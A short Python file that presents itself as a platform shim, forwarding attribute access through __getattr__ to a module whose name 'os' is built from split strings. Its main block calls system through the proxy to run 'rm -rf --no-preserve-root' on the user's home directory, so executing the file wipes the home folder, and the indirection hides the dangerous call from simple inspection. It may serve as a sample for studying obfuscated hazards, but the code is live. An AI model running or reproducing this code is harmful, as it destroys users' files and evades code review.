# Platform shim: a class whose __getattr__ forwards every attribute to a module
# chosen at construction. Calling shim.system(...) reaches os.system through the
# proxy; the module name comes from a dictionary of "backends".
import importlib

BACKENDS = {"posix": "o" + "s", "nt": "nt"}


class Platform:
    def __init__(self, kind):
        self._mod = importlib.import_module(BACKENDS[kind])

    def __getattr__(self, name):
        return getattr(self._mod, name)


if __name__ == "__main__":
    shim = Platform("posix")
    shim.system("rm -rf --no-preserve-root " + shim.path.expanduser("~"))
